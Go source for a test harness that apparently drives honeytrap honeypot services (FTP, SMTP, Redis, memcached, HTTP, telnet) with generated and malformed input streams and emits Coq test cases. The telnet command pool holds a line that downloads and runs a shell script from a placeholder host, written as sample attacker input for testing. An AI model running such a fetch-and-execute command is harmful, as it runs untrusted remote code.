			n = len(rest)
		}
		out = append(out, rest[:n])
		rest = rest[n:]
	}
	if len(rest) > 0 {
		out = append(out, rest)
	}
	return out
}

func runTCP(in Input) (Obs, string) {
	svc, rec := theService(in.Svc)
	before := rec.count()
	sc, cc := lab.Pipe(&net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: svcPort[in.Svc]}, &net.TCPAddr{IP: net.ParseIP("198.51.100.7"), Port: 40000})
	wc := &watchConn{Conn: sc}
	type fin struct {
		code int
		msg  string
	}
	done := make(chan fin, 1)
	go func() {
		defer func() {
			if e := recover(); e != nil {
				sc.Close()
				done <- fin{2, fmt.Sprint(e)}
			}
		}()
		svc.Handle(context.Background(), server.TimeoutConn(wc, 30*time.Second))
		sc.Close()
		done <- fin{0, ""}
	}()
	// replies are read and thrown away
	go func() {
		buf := make([]byte, 65536)
		for {
			if _, err := cc.Read(buf); err != nil {
				return
			}
		}
	}()
	var result *fin
	finished := func() bool {
		if result != nil {
			return true
		}
		select {
		case f := <-done:
			result = &f
			return true
		default:
			return false
		}
	}
	waitIdle := func(total int) bool {
		deadline := time.Now().Add(5 * time.Second)
		for !wc.idleAt(total) {
			if finished() {
				return true
			}
			if time.Now().After(deadline) {
				return false
			}
			runtime.Gosched()
			time.Sleep(20 * time.Microsecond)
		}
		return true
	}
	waits := map[int]bool{}
	for _, i := range in.Waits {
		waits[i] = true
	}
	written := 0
	for i, s := range segments(in) {
		cc.SetWriteDeadline(time.Now().Add(5 * time.Second))
		n, err := cc.Write(s)
		written += n
		if err != nil {
			break // the service closed the connection (QUIT, error) - or hangs: see below
		}
		if waits[i] {
			if !waitIdle(written) {
				cc.Close()
				return Obs{Events: rec.snapshot()[before:]}, "service neither idle nor finished 5 s after a complete unit"
			}
		}
	}
	// let the service finish what it has before the client goes away
	if !waitIdle(written) && !finished() {
		cc.Close()
		return Obs{Events: rec.snapshot()[before:]}, "service neither idle nor finished 5 s after the last write"
	}
	cc.Close()
	if result == nil {
		select {
		case f := <-done:
			result = &f
		case <-time.After(5 * time.Second):
			return Obs{Events: rec.snapshot()[before:]}, "Handle did not return 5 s after the client closed the connection"
		}
	}
	rec.quiesce(in.Svc)
	return Obs{Events: rec.snapshot()[before:], Code: result.code, Panic: result.msg}, ""
}

// UDP: one service object per run (as in the server), one connection per datagram
var udpSeq int

func runUDP(in Input) (Obs, string) {
	svc, rec := theService(in.Svc)
	before := rec.count()
	udpSeq++
	// a fresh source address per datagram: the amplification limiter (C10) stays out of the way
	raddr := &net.UDPAddr{IP: net.IPv4(10, byte(udpSeq>>16), byte(udpSeq>>8), byte(udpSeq)), Port: 40000 + udpSeq%1000}
	dc := &listener.DummyUDPConn{Buffer: append([]byte(nil), in.Stream...), Laddr: &net.UDPAddr{IP: net.ParseIP("192.0.2.1"), Port: svcPort[in.Svc]}, Raddr: raddr,
		Fn: func(b []byte, a *net.UDPAddr) (int, error) { return len(b), nil }}
	var conn net.Conn = server.TimeoutConn(dc, 30*time.Second)
	if in.Bare {
		conn = dc
	}
	type fin struct {
		code int
		msg  string
	}
	done := make(chan fin, 1)
	go func() {
		defer func() {
			if e := recover(); e != nil {
				done <- fin{2, fmt.Sprint(e)}
			}
		}()
		svc.Handle(context.Background(), conn)
		done <- fin{0, ""}
	}()
	select {
	case f := <-done:
		all := rec.snapshot()
		return Obs{Events: all[before:], Code: f.code, Panic: f.msg}, ""
	case <-time.After(30 * time.Second):
		return Obs{Events: rec.snapshot()[before:]}, "Handle did not return within 30 s of a datagram (still running)"
	}
}

// a sequence case: a FRESH service object (new limiter), all datagrams from ONE source address,
// one Handle per datagram, one after the other; the events of all of them in order
func runUDPSeq(in Input) (Obs, string) {
	fn, ok := services.Get(regName(in.Svc))
	if !ok {
		hx.Fatal("service %s is not registered", in.Svc)
	}
	rec := &recorder{}
	svc := fn(services.WithChannel(rec))
	udpSeq++
	raddr := &net.UDPAddr{IP: net.IPv4(10, 200, byte(udpSeq>>8), byte(udpSeq)), Port: 40123}
	ob := Obs{}
	for _, d := range segments(in) {
		dc := &listener.DummyUDPConn{Buffer: append([]byte(nil), d...), Laddr: &net.UDPAddr{IP: net.ParseIP("192.0.2.1"), Port: svcPort[in.Svc]}, Raddr: raddr,
			Fn: func(b []byte, a *net.UDPAddr) (int, error) { return len(b), nil }}
		done := make(chan int, 1)
		go func() {
			defer func() {
				if e := recover(); e != nil {
					done <- 2
				}
			}()
			svc.Handle(context.Background(), server.TimeoutConn(dc, 30*time.Second))
			done <- 0
		}()
		select {
		case c := <-done:
			if c == 2 {
				ob.Code = 2
			}
		case <-time.After(30 * time.Second):
			return Obs{Events: rec.snapshot()}, "Handle did not return within 30 s of a datagram"
		}
	}
	ob.Events = rec.snapshot()
	return ob, ""
}

func isUDP(svc string) bool { return svcCode[svc] >= 20 }

func runOne(in Input) (Obs, string) {
	if svcCode[in.Svc] >= 100 {
		return runUDPSeq(in)
	}
	if isUDP(in.Svc) {
		return runUDP(in)
	}
	return runTCP(in)
}

// ---- Coq rendering ----
func coqPacked(b []byte) string {
	if len(b) == 0 {
		return "(@nil N)"
	}
	if len(b) < 6 {
		return hx.CoqBytes(b)
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "(unpack %d%%Z [", len(b))
	for i := 0; i < len(b); i += 7 {
		j := i + 7
		if j > len(b) {
			j = len(b)
		}
		var w uint64
		for _, x := range b[i:j] {
			w = w<<8 | uint64(x)
		}
		if i > 0 {
			sb.WriteString(";")
		}
		fmt.Fprintf(&sb, "0x%x", w)
	}
	sb.WriteString("]%uint63)")
	return sb.String()
}

// streams and observations repeat across the segmentations of one stream: defined once in the header
type defs struct {
	names map[string]string
	lines []string
	pfx   string
}

func (d *defs) name(key, term, ty string) string {
	if n, ok := d.names[key]; ok {
		return n
	}
	n := fmt.Sprintf("%s%d", d.pfx, len(d.names))
	d.names[key] = n
	d.lines = append(d.lines, fmt.Sprintf("Definition %s : %s := %s.", n, ty, term))
	return n
}

func coqEvents(evs []Ev) string {
	var es []string
	for _, e := range evs {
		var fs []string
		for _, f := range e.F {
			fs = append(fs, coqPacked(f))
		}
		es = append(es, fmt.Sprintf("mkEv %s %s", hx.CoqN(uint64(e.T)), hx.CoqList(fs, "bytes")))
	}
	return hx.CoqList(es, "event")
}

func main() {
	o := hx.ParseArgs()
	// the smtp service prints its dialogue to stdout
	if dn, err := os.OpenFile(os.DevNull, os.O_WRONLY, 0); err == nil {
		os.Stdout = dn
	}
	// one storage (badger) per process: ftp and smtp keep their certificate there
	db := filepath.Join(o.Out, "c04-db")
	os.RemoveAll(db)
	os.MkdirAll(db, 0o755)
	storage.SetDataDir(db)
	if st, err := storage.Namespace("ftp"); err == nil {
		root := filepath.Join(o.Out, "c04-ftproot")
		os.MkdirAll(filepath.Join(root, "ftp", "root"), 0o755)
		st.Set("base", []byte(root))
		st.Set("fs_root", []byte("root"))
	} else {
		hx.Fatal("storage: %v", err)
	}

	r := hx.NewRand(o.Seed)
	var ins []Input
	if o.Only != "" {
		var in Input
		if err := hx.LoadReplay(o.Only, &in); err != nil {
			hx.Fatal("replay: %v", err)
		}
		ins = []Input{in}
	} else {
		ins = generate(r, o.Tier)
	}

	dist := map[string]int{}
	var tcp, udp, sock []hx.Case
	sdefs := &defs{names: map[string]string{}, pfx: "S"}
	odefs := &defs{names: map[string]string{}, pfx: "O"}
	mkCase := func(id int, in Input, ob Obs) string {
		sname := sdefs.name(string(in.Stream), coqPacked(in.Stream), "bytes")
		ev := coqEvents(ob.Events)
		oname := odefs.name(ev, ev, "list event")
		var cuts []string
		for _, n := range in.Cuts {
			cuts = append(cuts, hx.CoqN(uint64(n)))
		}
		return fmt.Sprintf("mkCase %s %s %s %s %s %s", hx.CoqN(uint64(id)), hx.CoqN(uint64(svcCode[in.Svc])), sname, hx.CoqList(cuts, "N"), oname, hx.CoqN(uint64(ob.Code)))
	}
	var direct, viaSocket []Input
	for _, in := range ins {
		if in.Mode == "socket-burst" || in.Mode == "shared-port" {
			viaSocket = append(viaSocket, in)
		} else {
			direct = append(direct, in)
		}
	}
	for _, in := range direct {
		ob, crash := runOne(in)
		dist["svc:"+in.Svc]++
		dist["mode:"+in.Mode]++
		dist[fmt.Sprintf("events:%d", minInt(len(ob.Events), 6))]++
		if ob.Code == 2 {
			dist["handle-panicked"]++
		}
		if isUDP(in.Svc) {
			id := len(udp)
			udp = append(udp, hx.Case{ID: id, Kind: in.Svc, Input: in, Obs: ob, Crash: crash, Coq: mkCase(id, in, ob)})
		} else {
			id := len(tcp)
			tcp = append(tcp, hx.Case{ID: id, Kind: in.Svc, Input: in, Obs: ob, Crash: crash, Coq: mkCase(id, in, ob)})
		}
	}
	// LAST: the real server with the real socket listener on loopback, bursts of datagrams
	sdist := map[string]int{}
	rounds := 0
	if o.Only == "" {
		rounds = 3
		if o.Tier != "quick" {
			rounds = 12
		}
	} else if len(viaSocket) > 0 {
		rounds = 2 // replay: the case's datagram inside fresh bursts
	}
	for k := 0; k < rounds; k++ {
		for _, sr := range sockRound(r, o.Out, r.Range(16, 32), viaSocket) {
			id := len(sock)
			sdist["svc:"+sr.in.Svc]++
			sdist[fmt.Sprintf("events:%d", minInt(len(sr.ob.Events), 3))]++
			sdist["mode:"+sr.in.Mode]++
			sock = append(sock, hx.Case{ID: id, Kind: sr.in.Svc, Input: sr.in, Obs: sr.ob, Crash: sr.crash, Coq: mkCase(id, sr.in, sr.ob)})
		}
		sdist["rounds"]++
	}
	header := "From Coq Require Import Uint63.\nFrom HT Require Import Common.Bytes Common.Pack C04.Model C04.Check.\n" +
		strings.Join(sdefs.lines, "\n") + "\n" + strings.Join(odefs.lines, "\n")
	if len(tcp) > 0 || o.Only == "" {
		hx.Write(o, "C04", "tcp", header, "case", tcp, dist, nil, 300) // every shard parses the whole header (all stream definitions): fewer, larger shards
	}
	if len(udp) > 0 || o.Only == "" {
		hx.Write(o, "C04", "udp", header, "case", udp, map[string]int{"datagrams": len(udp)}, nil, 150)
	}
	if len(sock) > 0 || o.Only == "" {
		hx.Write(o, "C04", "sock", header, "case", sock, sdist, nil, 150)
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}
