package main

import (
	"fmt"
	"strings"

	"github.com/Logicalis/asn1"
	"github.com/honeytrap/honeytrap/services/snmp"

	"verif/harness/hx"
)

// a command stream as the units a lock-step client sends before waiting for the reply
type stream struct {
	svc   string
	units []string
	tail  string // bytes after the last complete unit (an unterminated command)
}

func (s stream) bytes() []byte { return []byte(strings.Join(s.units, "") + s.tail) }

func crlf(lines ...string) string { return strings.Join(lines, "\r\n") + "\r\n" }

// ---- per-protocol grammars ----
func ftpStream(r *hx.Rand) stream {
	pool := []string{"USER anonymous", "PASS guest@example.org", "SYST", "PWD", "NOOP", "TYPE I", "MODE S", "STRU F",
		"noop", "XYZZY plugh", "OPTS UTF8 ON", "USER caf\u00e9", "PASS \u20ac\U0001F600", "CWD /\u65e5\u672c\u8a9e/\u00fc", "MKD bad\xff\x80\xc3", "USER  spaced  name ", "", "PASS", "HELP", "REST 0", "ALLO 10", "SITE CHMOD 777 x"}
	s := stream{svc: "ftp"}
	n := r.Range(1, 6)
	for i := 0; i < n; i++ {
		l := r.PickStr(pool)
		if r.Chance(1, 8) {
			s.units = append(s.units, l+"\n") // bare LF
		} else {
			s.units = append(s.units, l+"\r\n")
		}
	}
	if r.Chance(1, 2) {
		s.units = append(s.units, r.PickStr([]string{"QUIT\r\n", "quit\r\n", "QUIT now\r\n", "Quit\n"}))
		if r.Chance(1, 3) {
			s.units = append(s.units, "NOOP\r\n", "SYST\r\n") // after QUIT: the connection is closed
		}
	}
	if r.Chance(1, 5) {
		s.tail = r.PickStr([]string{"NOO", "USER half", "\r"})
	}
	return s
}

func mailText(r *hx.Rand) []string {
	var ls []string
	switch r.Intn(6) {
	case 0: // no header, body only
		ls = append(ls, "")
	case 1: // not a message at all
		return []string{"just some text without a header"}
	default:
		ls = append(ls, "Subject: "+r.PickStr([]string{"hello", "Re: your order", "x", "h\u00e9llo w\u00f6rld \u20ac", "\U0001F600"}))
		if r.Bool() {
			ls = append(ls, "From: a@example.org")
		}
		if r.Chance(1, 6) { // header only, no blank line
			return ls
		}
		ls = append(ls, "")
	}
	body := []string{"Gr\u00fc\u00dfe aus K\u00f6ln \u20ac", "\U0001F600 \u65e5\u672c", ".\u00e9 dot then two bytes", "bad \xc3\x28 \xff bytes", "first line", "..leading dot", ". dot and text", "", "lone \r inside", "..", "tab\there", "last"}
	n := r.Range(0, 4)
	for i := 0; i < n; i++ {
		ls = append(ls, r.PickStr(body))
	}
	return ls
}

func smtpStream(r *hx.Rand) stream {
	s := stream{svc: "smtp"}
	add := func(u string) { s.units = append(s.units, u) }
	switch r.Intn(8) {
	case 0:
		add(r.PickStr([]string{"HELP\r\n", "NOOP\r\n", "HELO \r\n", "GET / HTTP/1.0\r\n"}))
	}
	add(r.PickStr([]string{"EHLO client.example.org\r\n", "HELO x\r\n", "ehlo y\n", "HELO\r\n"}))
	n := r.Range(1, 4)
	for i := 0; i < n; i++ {
		switch r.Intn(9) {
		case 0:
			add(r.PickStr([]string{"NOOP\r\n", "RSET\r\n", "HELP\r\n", "VRFY root\r\n", "\r\n", "   \r\n"}))
		case 1, 2, 3: // DATA transaction
			add("MAIL FROM:<a@example.org>\r\n")
			if r.Bool() {
				add("RCPT TO:<b@example.net>\r\n")
			}
			add("DATA\r\n")
			msg := ""
			for _, l := range mailText(r) {
				if r.Chance(1, 10) {
					msg += l + "\n"
				} else {
					msg += l + "\r\n"
				}
			}
			if r.Chance(1, 12) {
				msg += ".\n"
			} else {
				msg += ".\r\n"
			}
			add(msg)
		case 4, 5: // BDAT transaction
			add("MAIL FROM:<a@example.org>\r\n")
			text := strings.Join(mailText(r), "\r\n") + "\r\n"
			if r.Bool() && len(text) > 4 {
				k := r.Range(1, len(text)-1)
				add(fmt.Sprintf("BDAT %d\r\n%s", k, text[:k]))
				text = text[k:]
			}
			add(fmt.Sprintf("BDAT %d LAST\r\n%s", len(text), text))
		case 6:
			add("MAIL FROM:<a@example.org>\r\n")
			add(r.PickStr([]string{"RSET\r\n", "\r\n", "HELP\r\n", "BDAT x\r\n", "BDAT 0\r\n", "BDAT 100000 LAST\r\nshort", "BDAT -3\r\n", "FOO\r\n"}))
		case 7:
			add("MAIL FROM:<a@example.org>\r\n")
			add("DATA\r\n")
			add("Subject: cut short\r\n\r\nno terminator") // unexpected EOF
			return s
		case 8:
			add(r.PickStr([]string{"QUIT\r\n", "STARTTLS\r\n"}))
			if r.Bool() {
				add("NOOP\r\n")
			}
			return s
		}
	}
	if r.Chance(1, 2) {
		add("QUIT\r\n")
	} else if r.Chance(1, 3) {
		s.tail = r.PickStr([]string{"NOO", "QUIT", "NOOP\r"})
	}
	return s
}

func resp(args ...string) string {
	s := fmt.Sprintf("*%d\r\n", len(args))
	for _, a := range args {
		s += fmt.Sprintf("$%d\r\n%s\r\n", len(a), a)
	}
	return s
}

func redisStream(r *hx.Rand) stream {
	s := stream{svc: "redis"}
	n := r.Range(1, 5)
	for i := 0; i < n; i++ {
		switch r.Intn(12) {
		case 0:
			s.units = append(s.units, resp("INFO"))
		case 1:
			s.units = append(s.units, resp("info", r.PickStr([]string{"server", "all", "nope"})))
		case 2:
			s.units = append(s.units, resp("SET", r.PickStr([]string{"key", "cl\u00e9", "\U0001F511"}), r.PickStr([]string{"value with space", "valeur \u20ac\U0001F600", "\xff\x80 \xe2\x82"})))
		case 3:
			s.units = append(s.units, resp("PING"))
		case 4:
			s.units = append(s.units, "\r\n") // empty packet
		case 5:
			s.units = append(s.units, "*2\r\n+CONFIG\r\n:5\r\n")
		case 6:
			s.units = append(s.units, "*2\r\n*1\r\n$1\r\na\r\n$1\r\nb\r\n") // nested array first: not a command
		case 7:
			s.units = append(s.units, "*1\n$4\nLOLW\n") // bare LF
		case 8:
			s.units = append(s.units, resp("CLIENT", "LIST"), resp("KEYS", "*"))
		case 9:
			s.units = append(s.units, "*3\r\n$3\r\nGET\r\n\r\n$1\r\nx\r\n") // empty item inside
		case 10:
			s.units = append(s.units, r.PickStr([]string{"PING\r\n", "*x\r\n", ":12\r\n", "+OK\r\n", "*1\r\n:7\r\n", "$3\r\nabc\r\n", "*1\r\n$x\r\n"}))
			return s
		case 11:
			s.units = append(s.units, resp("EVAL", "return 1", "0"))
		}
	}
	if r.Chance(1, 4) {
		s.tail = r.PickStr([]string{"*1\r\n$4\r\nPI", "*2\r\n$4\r\nLAST", "*1\r\n$4\r\nQUIT"})
	}
	return s
}

func memcachedStream(r *hx.Rand, storage bool) stream {
	s := stream{svc: "memcached"}
	n := r.Range(1, 5)
	for i := 0; i < n; i++ {
		k := r.Intn(10)
		if !storage && k >= 6 && k <= 8 {
			k = 0
		}
		switch k {
		case 0:
			s.units = append(s.units, "get "+r.PickStr([]string{"k", "foo bar", "a", "cl\u00e9 \u20ac", "\U0001F511", "\xc3\xff"})+"\r\n")
		case 1:
			s.units = append(s.units, "stats\r\n")
		case 2:
			s.units = append(s.units, "flush_all\r\n")
		case 3:
			s.units = append(s.units, r.PickStr([]string{"delete k\r\n", "version\r\n", "\r\n", "x\r\n", "gets a b\n", "verbosity 1\r\n"}))
		case 4:
			s.units = append(s.units, "incr counter 5\r\n")
		case 5:
			s.units = append(s.units, "touch k 0\r\n")
		case 6, 7:
			data := r.PickStr([]string{"abc", "", "hello world", "line1\r\nline2", "h\u20acllo \U0001F600", "\xf0\x9f\x98\r\n\x80", strings.Repeat("0123456789", 9)})
			s.units = append(s.units, fmt.Sprintf("%s %s 0 0 %d\r\n%s\r\n", r.PickStr([]string{"set", "add", "replace", "append", "prepend"}), r.PickStr([]string{"k", "key2"}), len(data), data))
		case 8:
			s.units = append(s.units, "cas k 0 0 3 77\r\nxyz\r\n")
		case 9:
			if storage {
				s.units = append(s.units, r.PickStr([]string{"set k 0 0\r\n", "set k 0 0 x\r\nabc\r\n"}))
				return s
			}
			s.units = append(s.units, "quit\r\n")
		}
	}
	if r.Chance(1, 5) {
		s.tail = "get unfinished"
	}
	return s
}

type httpReq struct {
	method, path, host string
	headers            []string
	body               string
}

func (q httpReq) String() string {
	s := q.method + " " + q.path + " HTTP/1.1\r\n"
	if q.host != "" {
		s += "Host: " + q.host + "\r\n"
	}
	for _, h := range q.headers {
		s += h + "\r\n"
	}
	if q.body != "" || q.method == "POST" || q.method == "PUT" {
		s += fmt.Sprintf("Content-Length: %d\r\n", len(q.body))
	}
	return s + "\r\n" + q.body
}

const soap = `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:cwmp="urn:dslforum-org:cwmp-1-0"><soap:Body><cwmp:%s><A>1</A></cwmp:%s></soap:Body></soap:Envelope>`

func httpStream(r *hx.Rand, svc string, nreq int, bodies bool) stream {
	s := stream{svc: svc}
	for i := 0; i < nreq; i++ {
		q := httpReq{method: r.PickStr([]string{"GET", "GET", "HEAD", "DELETE", "OPTIONS"}), path: r.PickStr([]string{"/", "/index.html", "/a/b?c=d&e=f", "/v1.24/version", "/_search?q=x", "/%7Euser"}),
			host: r.PickStr([]string{"example.org", "10.0.0.1:8080", "h"})}
		if r.Chance(1, 2) {
			q.headers = append(q.headers, r.PickStr([]string{"User-Agent: curl/7.0", "Accept: */*", "X-Empty:", "Cookie: a=b; c=d", "Connection: keep-alive"}))
		}
		if r.Chance(1, 8) {
			q.host = ""
		}
		if bodies && r.Chance(2, 3) {
			q.method = r.PickStr([]string{"POST", "PUT", "POST"})
			q.body = r.PickStr([]string{"a=1&b=2", "x", `{"k":"v"}`, strings.Repeat("payload-", 12), "name=caf\u00e9&sum=\u20ac5 \U0001F600", "raw=\xff\xc3\x80"})
		}
		switch svc {
		case "ethereum":
			q.method = "POST"
			q.body = fmt.Sprintf(`{"jsonrpc":"2.0","method":"%s","params":[],"id":%d}`, r.PickStr([]string{"eth_accounts", "eth_blockNumber", "web3_clientVersion"}), r.Range(1, 99))
			if !bodies {
				q.body = `{"id":1}`
			}
		case "cwmp":
			if bodies || i == 0 {
				q.method = "POST"
				m := r.PickStr([]string{"Inform", "GetRPCMethods", "TransferComplete"})
				q.body = fmt.Sprintf(soap, m, m)
			}
		case "eos":
			q.path = r.PickStr([]string{"/v1/chain/get_info", "/v1/wallet/list_keys", "/"})
		}
		s.units = append(s.units, q.String())
	}
	return s
}

func httpMalformed(r *hx.Rand, svc string) stream {
	return stream{svc: svc, units: []string{r.PickStr([]string{
		"GET /\r\n\r\n", "GET / HTTP/9\r\nHost: a\r\n\r\n", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: x\r\n\r\n",
		"GET / HTTP/1.1\r\nHost a\r\n\r\n", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\nabc", "GET / HTTP/1.1\r\nHost: a\r\n",
		"\r\n", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n\r\n"})}}
}



// ---- smtp transactions: every command of the vocabulary, interruptions at every point ----
// mail k has its own subject and body, so an event that carries bytes of another mail shows
func mailK(k int) string {
	return fmt.Sprintf("Subject: mail-%d\r\nFrom: sender%d@example.org\r\n\r\nbody-%d line one\r\nbody-%d line two\r\n", k, k, k, k)
}

// the steps of one BDAT transaction for mail k: MAIL, RCPT, chunk(s), LAST
func bdatSteps(r *hx.Rand, k int, chunks int, zeroLast bool) []string {
	text := mailK(k)
	steps := []string{fmt.Sprintf("MAIL FROM:<sender%d@example.org>\r\n", k), "RCPT TO:<rcpt@example.net>\r\n"}
	for c := 0; c < chunks && len(text) > 2; c++ {
		n := r.Range(1, len(text)-1)
		if r.Chance(1, 6) {
			n = 0
		}
		steps = append(steps, fmt.Sprintf("BDAT %d\r\n%s", n, text[:n]))
		text = text[n:]
	}
	if zeroLast {
		steps = append(steps, fmt.Sprintf("BDAT %d\r\n%s", len(text), text), "BDAT 0 LAST\r\n")
	} else {
		steps = append(steps, fmt.Sprintf("BDAT %d LAST\r\n%s", len(text), text))
	}
	return steps
}

func dataSteps(k int) []string {
	return []string{fmt.Sprintf("MAIL FROM:<sender%d@example.org>\r\n", k), "RCPT TO:<rcpt@example.net>\r\n", "DATA\r\n", mailK(k) + ".\r\n"}
}

// an interruption after step [pos] of transaction 1 (by RSET or by something that is not RSET),
// then two complete mails (BDAT, DATA or DATA, BDAT) and QUIT
func smtpInterrupted(r *hx.Rand, pos int, interrupt string, chunks int) stream {
	s := stream{svc: "smtp", units: []string{r.PickStr([]string{"EHLO client.example.org\r\n", "HELO c\r\n"})}}
	first := bdatSteps(r, 1, chunks, false)
	if pos > len(first)-1 {
		pos = len(first) - 1
	}
	s.units = append(s.units, first[:pos]...)
	s.units = append(s.units, interrupt)
	if r.Bool() {
		s.units = append(s.units, bdatSteps(r, 2, r.Range(0, 2), r.Chance(1, 4))...)
		s.units = append(s.units, dataSteps(3)...)
	} else {
		s.units = append(s.units, dataSteps(2)...)
		s.units = append(s.units, bdatSteps(r, 3, r.Range(0, 2), r.Chance(1, 4))...)
	}
	s.units = append(s.units, "QUIT\r\n")
	return s
}

func smtpMany(r *hx.Rand) stream {
	s := stream{svc: "smtp", units: []string{"EHLO many.example.org\r\n"}}
	n := r.Range(2, 4)
	for k := 1; k <= n; k++ {
		if r.Bool() {
			s.units = append(s.units, bdatSteps(r, k, r.Range(0, 3), r.Chance(1, 4))...)
		} else {
			s.units = append(s.units, dataSteps(k)...)
		}
		if r.Chance(1, 3) {
			s.units = append(s.units, r.PickStr([]string{"RSET\r\n", "NOOP\r\n", "HELP\r\n", "VRFY root\r\n", "EXPN list\r\n", "\r\n"}))
		}
	}
	s.units = append(s.units, "QUIT\r\n")
	return s
}

// ---- redis: RESP values at the size boundaries, at every argument position ----
func redisBoundary(r *hx.Rand, arity, pos int, kind string) stream {
	s := stream{svc: "redis", units: []string{resp("PING")}}
	words := []string{"SET", "key", "value", "EX", "10"}
	cmd := fmt.Sprintf("*%d\r\n", arity)
	for i := 0; i < arity; i++ {
		if i == pos {
			switch kind {
			case "empty-bulk":
				cmd += "$0\r\n\r\n"
			case "null-bulk":
				cmd += "$-1\r\n"
			case "empty-array":
				cmd += "*0\r\n"
			case "null-array":
				cmd += "*-1\r\n"
			case "empty-line":
				cmd += "\r\n"
			case "one-byte":
				cmd += "$1\r\nx\r\n"
			case "bulk-with-space":
				cmd += "$3\r\na b\r\n"
			case "integer":
				cmd += ":0\r\n"
			case "simple":
				cmd += "+\r\n"
			}
		} else {
			cmd += fmt.Sprintf("$%d\r\n%s\r\n", len(words[i]), words[i])
		}
	}
	s.units = append(s.units, cmd, resp("GET", "key"), resp("INFO"))
	return s
}

var redisKinds = []string{"empty-bulk", "null-bulk", "empty-array", "null-array", "empty-line", "one-byte", "bulk-with-space", "integer", "simple"}

// ---- multi-byte UTF-8: characters of 2, 3 and 4 bytes incl. the first and last of every range ----
var utf8Words = []string{"caf\u00e9", "na\u00efve", "\u20acuro", "\u65e5\u672c\u8a9e", "\U0001F600", "a\u00f1\u20ac\U0001F600z", "\u03a9mega",
	"\u0080\u07ff", "\u0800\ud7ff\ue000\uffff", "\U00010000\U0010ffff", "\u00fc\u00f6\u00e4\u00df"}

// undecodable: lone continuation bytes, truncated sequences, overlong forms, surrogates, beyond
// U+10FFFF, bytes that never occur, a sequence broken by an ASCII byte - and U+FFFD itself
var badUTF8 = []string{"\x80", "\xbf", "\xc3", "\xe2\x82", "\xf0\x9f\x98", "\xc0\x80", "\xc1\xbf", "\xe0\x80\x80", "\xe0\x9f\xbf",
	"\xf0\x80\x80\x80", "\xf0\x8f\xbf\xbf", "\xed\xa0\x80", "\xed\xbf\xbf", "\xf4\x90\x80\x80", "\xf5", "\xff", "\xfe", "\xef\xbf\xbd",
	"\xc3\x28", "\xe2\x28\xa1", "\xf0\x9f\x28\x80"}

func utf8Text(r *hx.Rand, n int) string {
	var ws []string
	for i := 0; i < n; i++ {
		ws = append(ws, r.PickStr(utf8Words))
	}
	return strings.Join(ws, " ")
}

// text that is not valid UTF-8 (at least one undecodable sequence between decodable words)
func badText(r *hx.Rand, n int) string {
	s := r.PickStr([]string{"", "x", "caf\u00e9"})
	for i := 0; i < n; i++ {
		s += r.PickStr(badUTF8) + r.PickStr([]string{"", "y", " z", "\u20ac"})
	}
	return s
}

// ---- telnet: input as a terminal sends it - text in UTF-8, editing keys, escape sequences ----
var telnetKeys = []string{"\x1b[A", "\x1b[B", "\x1b[C", "\x1b[D", "\x1b[H", "\x1b[F", "\x1b[1;3C", "\x1b[1;3D", "\x1b[5~", "\x1bOP", "\x1b[1;5A", "\x1b[3~", "\x17", "\x0c"}

func telnetStream(r *hx.Rand) stream {
	s := stream{svc: "telnet"}
	eol := func() string { return r.PickStr([]string{"\r\n", "\r\n", "\r\n", "\n", "\r\x00\n", "\r\r\n"}) }
	s.units = append(s.units, r.PickStr([]string{"root", "admin", "", "user name", "r\u00f4\u00f4t", "\u7ba1\u7406\u5458"})+eol())
	s.units = append(s.units, r.PickStr([]string{"secret", "123456", "", "p@ss w0rd", "p\u00e4ssw\u00f6rd\u20ac", "\U0001F511\U0001F511"})+eol())
	n := r.Range(0, 4)
	for i := 0; i < n; i++ {
		cmd := r.PickStr([]string{"uname -a", "cat /proc/cpuinfo", "", "wget http://198.51.100.9/x.sh; sh x.sh", "ls", "enable", "sh",
			"lss\x7f -l", "typo\x08\x08\x08\x08echo ok", "discard this\x15id", "abc\x01X\x05Z", "keep\x0bdropped?", "ab\x01\x04c", "bell\x07tab\there", "x\x0cy"})
		switch r.Intn(5) {
		case 0: // text in UTF-8
			cmd = "echo " + utf8Text(r, r.Range(1, 3))
		case 1: // UTF-8 and editing keys: the cursor moves over whole characters
			cmd = utf8Text(r, 2) + r.PickStr([]string{"\x7f", "\x08\x08", "\x17", "\x01\u00bb", "\x1b[D\x1b[D\u2192", "\x1b[1;3D<\x1b[1;3C>", "\x1b[H\x04", "\x0b"}) + r.PickStr(utf8Words)
		case 2: // key sequences
			cmd = "ls" + r.PickStr(telnetKeys) + " -l" + r.PickStr(telnetKeys) + r.PickStr([]string{"", "a", "\u00e9"})
		}
		s.units = append(s.units, cmd+eol())
	}
	switch r.Intn(5) {
	case 0:
		s.units = append(s.units, "\x04", "ignored after ^D\r\n")
	case 1:
		s.tail = r.PickStr([]string{"unfinished", "exit\r", "\r"})
	}
	return s
}

// undecodable bytes in a telnet session (the terminal skips them where they stand)
func telnetMalformed(r *hx.Rand) stream {
	s := stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n"}}
	n := r.Range(1, 3)
	for i := 0; i < n; i++ {
		s.units = append(s.units, r.PickStr([]string{"echo ", "", "cat "})+badText(r, r.Range(1, 2))+r.PickStr([]string{"\r\n", "\n", "\r\n"}))
	}
	s.units = append(s.units, "id\r\n")
	return s
}

// a character (or key sequence) seq placed so that it starts [before] bytes ahead of position [at]
// of the write that carries it: the terminal's input buffer takes 256 bytes per Read
func telnetStraddle(seq string, before, at int) stream {
	login := "root\r\nsecret\r\n"
	head := "echo "
	pad := at - before - len(login) - len(head)
	return stream{svc: "telnet", units: []string{"root\r\n", "secret\r\n", head + strings.Repeat("x", pad) + seq + " tail\r\n", "id\r\n"}}
}

func telnetCorpus(r *hx.Rand) (every []stream, sampled []stream, straddle []Input) {
	login := []string{"r\r\n", "s\r\n"}
	with := func(units ...string) stream { return stream{svc: "telnet", units: append(append([]string{}, login...), units...)} }
	// characters of 2, 3 and 4 bytes; every cut inside every character
	every = append(every, with("echo caf\u00e9 \u20ac \U0001F600 > /tmp/x\r\n", "uname -a\r\n", "\u0080\u07ff\u0800\uffff\U00010000\U0010ffff\r\n"))
	// cursor keys, word keys, unknown sequences; every cut inside every sequence
